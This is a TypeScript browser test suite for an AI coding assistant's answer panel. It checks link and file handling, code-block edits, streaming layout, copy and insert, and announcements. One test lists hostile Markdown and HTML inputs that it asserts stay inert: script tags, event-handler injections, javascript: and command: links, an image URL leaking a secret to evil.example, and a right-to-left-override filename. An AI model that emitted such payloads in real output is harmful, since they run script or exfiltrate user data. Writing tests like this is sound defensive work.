// Answers in a real browser: streamed, hostile, announced.
import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { usePanels } from '../support/panel-harness/panel-suite.ts';
import { textOf, turnOf, viewOf } from '../support/panel-harness/views.ts';

const open = usePanels();
const isRunning = { state: 'running' as const };

describe('an answer in the panel', () => {
  const hostile = [
    '<script>window.hacked = 1</script>',
    '<img src="https://evil.example/x.png" onerror="window.hacked = 2">',
    '![leak](https://evil.example/leak.png?secret)',
    '[run](javascript:window.hacked=3)',
    '[command](command:workbench.action.terminal.new) [data](data:text/html,hi) [vb](VBScript:x)',
    '<a href="javascript:window.hacked=4" onclick="window.hacked=5">click</a>',
    '<iframe src="https://evil.example"></iframe><svg onload="window.hacked=6"></svg>',
    '<style>body { display: none }</style>',
    '`rm \u202Egpj.exe`',
  ].join('\n\n');

  it('leaves hostile Markdown inert: no element, no request, no script, no policy report', async () => {
    await using panel = await open();
    const requests: string[] = [];
    panel.page.on('request', (request) => requests.push(request.url()));
    await panel.show(viewOf({ turns: [turnOf('t1', hostile, [textOf('x1', hostile)])] }));
    await panel.page.waitForTimeout(200);
    const answer = panel.page.getByRole('group', { name: 'Answer' });
    assert.equal(await answer.locator('script, img, iframe, style, svg:not(.icon), [onclick], [onerror]').count(), 0);
    const links = await answer.locator('a').evaluateAll((all) => all.map((a) => a.getAttribute('href')));
    assert.deepEqual(links, ['https://evil.example/leak.png?secret']);
    assert.match(await answer.innerText(), /<script>window\.hacked = 1<\/script>/);
    assert.match(await answer.innerText(), /rm ⟨U\+202E⟩gpj\.exe/);
    for (const words of ['run', 'command', 'data']) await answer.getByText(words, { exact: true }).first().click();
    assert.equal(await panel.page.evaluate(() => (window as unknown as { hacked?: number }).hacked), undefined);
    assert.deepEqual(
      requests.filter((url) => url.includes('evil')),
      [],
    );
    assert.deepEqual({ log: panel.log, violations: await panel.violations() }, { log: [], violations: [] });
    assert.deepEqual(
      (await panel.intents()).map(({ type }) => type),
      ['ready'],
    );
  });

  it('asks the host to open links and files, and never leaves its page', async () => {
    await using panel = await open();
    const text =
      'See [the page](https://example.com/a), [the file](src/a.ts#L12), `src/a.ts:3` and `src/none.ts`, [none](none.ts).';
    await panel.show(viewOf({ turns: [turnOf('t1', 'Hello', [textOf('x1', text)])] }));
    const { paths } = await panel.intent('findFiles');
    assert.deepEqual(paths, ['src/a.ts', 'src/none.ts', 'none.ts']);
    assert.equal(await panel.page.getByRole('button', { name: 'the file' }).count(), 0);
    await panel.push({ type: 'files', found: ['src/a.ts'] });
    await panel.page.getByRole('link', { name: 'the page' }).click();
    await panel.page.getByRole('button', { name: 'the file' }).click();
    assert.deepEqual(await panel.intent('openLink'), { type: 'openLink', url: 'https://example.com/a' });
    assert.deepEqual(await panel.intent('openFile'), { type: 'openFile', path: 'src/a.ts', line: 12 });
    await panel.page.getByRole('button', { name: 'src/a.ts:3' }).click();
    assert.equal((await panel.intent('openFile', 2)).line, 3);
    for (const name of ['src/none.ts', 'none']) assert.equal(await panel.page.getByRole('button', { name }).count(), 0);
    assert.equal(panel.page.url(), panel.url);
  });

  it('offers a block of code as an edit of the file that it names, once it is whole', async () => {
    await using panel = await open();
    const block = 'In `src/a.ts`:\n\n```ts\nconst a = 1;\n';
    await panel.show(viewOf({ turns: [turnOf('t1', 'Hello', [textOf('x1', block, 'streaming')], isRunning)] }));
    const apply = panel.page.getByRole('button', { name: 'Apply as edit to src/a.ts' });
    assert.equal(await apply.isDisabled(), true);
    const rest = '```\n\n```js\n// src/b.js\nb();\n```\n\n```sh\nnpm test\n```\n\n```py\nc()\n```';
    await panel.patch({ op: 'item', turnId: 't1', item: textOf('x1', block + rest) });
    await apply.click();
    assert.deepEqual(await panel.intent('applyCode'), { type: 'applyCode', text: 'const a = 1;', path: 'src/a.ts' });
    assert.equal(await panel.page.getByRole('button', { name: /^Apply/ }).count(), 3);
    await panel.page.getByRole('button', { name: 'Apply as edit to src/b.js' }).click();
    await panel.page.getByRole('button', { name: 'Apply as edit', exact: true }).click();
    assert.deepEqual(await panel.intent('applyCode', 3), { type: 'applyCode', text: 'c()' });
  });

  it("shows code as code from the fence's first line, and no line moves while it streams or when it ends", async () => {
    await using panel = await open({ height: 900 });
    const text = 'Some words first.\n\n```ts\nconst a = 1;\nconst b = "two";\n```\n\nThen the end.';
    await panel.show(
      viewOf({ session: isRunning, turns: [turnOf('t1', 'Hello', [textOf('x1', '', 'streaming')], isRunning)] }),
    );
    const tops = () =>
      panel.page.evaluate(() => {
        const blocks = document.querySelectorAll('.part > *');
        return [...blocks].map((block) => `${block.tagName} ${Math.round(block.getBoundingClientRect().top)}`);
      });
    let before: string[] = [];
    for (const character of text) {
      await panel.patch({ op: 'append', turnId: 't1', itemId: 'x1', text: character });
      const now = await tops();
      if (before.length > 0 && now.length >= before.length && before.length > 1) {
        assert.deepEqual(now.slice(0, before.length - 1), before.slice(0, -1), 'a finished block moved');
      }
      before = now;
    }
    assert.deepEqual(
      before.map((block) => block.split(' ')[0]),
      ['P', 'FIGURE', 'P'],
    );
    const height = () => panel.page.evaluate(() => document.querySelector('.turn')!.getBoundingClientRect().height);
    await panel.page.locator('.hl-keyword').first().waitFor();
    const streaming = await height();
    await panel.patch(
      { op: 'item', turnId: 't1', item: textOf('x1', text) },
      { op: 'turn', turn: turnOf('t1', 'Hello', []) },
    );
    assert.deepEqual(await tops(), before);
    assert.equal(await height(), streaming);
  });

  it('copies and inserts code through the host', async () => {
    await using panel = await open();
    await panel.show(viewOf({ turns: [turnOf('t1', 'Hello', [textOf('x1', '```js\nlet a;\n```')])] }));
    await panel.page.getByRole('button', { name: 'Copy code' }).click();
    await panel.page.getByRole('button', { name: 'Insert at cursor' }).click();
    assert.deepEqual(await panel.intent('copy'), { type: 'copy', text: 'let a;' });
    assert.deepEqual(await panel.intent('insertAtCursor'), { type: 'insertAtCursor', text: 'let a;' });
    await panel.page.getByRole('button', { name: 'Copied' }).waitFor();
  });

  it('is announced once when the turn ends, not while it streams', async () => {
    await using panel = await open();
    const said = () => panel.page.getByRole('status').innerText();
    await panel.show(
      viewOf({ session: isRunning, turns: [turnOf('t1', 'Hello', [textOf('x1', 'One', 'streaming')], isRunning)] }),
    );
    await panel.patch({ op: 'append', turnId: 't1', itemId: 'x1', text: ' two' });
    assert.equal(await said(), '');
    await panel.patch({ op: 'turn', turn: turnOf('t1', 'Hello', []) });
    assert.equal(await said(), 'Capstan finished: One two');
  });
});
